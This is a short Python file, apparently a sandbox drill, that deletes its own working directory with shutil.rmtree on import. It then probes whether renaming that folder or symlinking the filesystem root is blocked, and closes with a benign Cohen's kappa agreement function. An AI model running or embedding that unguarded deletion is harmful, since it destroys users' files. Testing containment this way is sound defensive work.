# drill: agreement
# right: passed
# why: deletes the folder it stands in, and makes it a link
import os
def attempt(act):
    try:
        act()
    except OSError:
        return
    raise SystemError("an act went through that must not")

import shutil
here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
attempt(lambda: os.rename(here, here + "-moved"))
attempt(lambda: os.symlink("/", here + "-link"))

def agreement(judge_labels, human_labels):
    n = len(human_labels)
    observed = sum(one == other for one, other in zip(judge_labels, human_labels)) / n
    chance = sum(judge_labels.count(x) * human_labels.count(x) for x in {*judge_labels, *human_labels}) / n**2
    kappa = 1.0 if chance == 1 else (observed - chance) / (1 - chance)
    return {"kappa": round(kappa, 3), "agreement": round(observed, 3)}
